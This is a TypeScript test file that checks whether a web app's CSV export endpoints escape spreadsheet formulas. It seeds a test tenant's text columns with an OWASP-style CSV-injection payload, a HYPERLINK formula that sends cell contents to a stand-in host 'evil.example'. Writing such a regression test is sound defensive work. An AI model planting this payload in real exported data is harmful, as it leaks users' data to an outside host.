import Papa from 'papaparse';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { fillPractice } from '../../../testing/practice/full-practice.ts';
import { buildPractice, openWorld, type Practice, type World } from '../../../testing/world.ts';
import { operations } from './api-document/document.ts';

let world: World;
let practice: Practice;
beforeAll(async () => {
  world = await openWorld();
  practice = await buildPractice(world);
  await fillPractice(world, practice);
  await world.services.database.pool.query(laidOn(practice.tenantId));
});
afterAll(() => world.close());

/** A formula that a spreadsheet would run (OWASP, CSV Injection). */
const formula = '=HYPERLINK("https://evil.example?"&A1)';

/** SQL that prefixes every free-text column of the practice with the formula. */
const laidOn = (tenantId: number) => `do $$ declare c record; begin
  for c in select a.attrelid::regclass as name, quote_ident(a.attname) as text
    from pg_attribute a join pg_attribute t on t.attrelid = a.attrelid and t.attname = 'tenant_id'
      join pg_class r on r.oid = a.attrelid and r.relkind in ('r', 'p') and r.relnamespace = 'public'::regnamespace
    where a.atttypid = 'text'::regtype and a.attnum > 0 and not a.attisdropped and a.attgenerated = ''
      and a.attname ~ '(name|title|subject_line|notes|description)$'
  loop
    begin
      execute format('update %s set %s = ''${formula}'' || %2$s where tenant_id = ${tenantId}', c.name, c.text);
    exception when others then null;
    end;
  end loop;
end $$`;

test('escapes formulas in every CSV export', async () => {
  const { rows } = await world.services.database.pool.query('select id from email_campaigns where tenant_id = $1', [
    practice.tenantId,
  ]);
  const exports = Object.entries(operations).filter(([, { file }]) => file?.startsWith('text/csv'));
  expect(exports.length).toBeGreaterThan(7);
  let hostile = 0;
  for (const [route] of exports) {
    const path = route.slice('GET '.length).replace(':id', String(rows[0]?.id));
    const answer = await practice.call('GET', path);
    const text = await answer.text();
    expect(answer.status, `${path}: ${text.slice(0, 200)}`).toBe(200);
    const { data } = Papa.parse<string[]>(text.replace(/^\ufeff/, ''));
    for (const cell of data.flat()) {
      if (cell.includes('HYPERLINK')) hostile += 1;
      expect(cell, path).not.toMatch(/^\s*[=@]|^[+-](?![\d.]+$)|^[\t\r]/);
    }
  }
  expect(hostile).toBeGreaterThan(5);
});
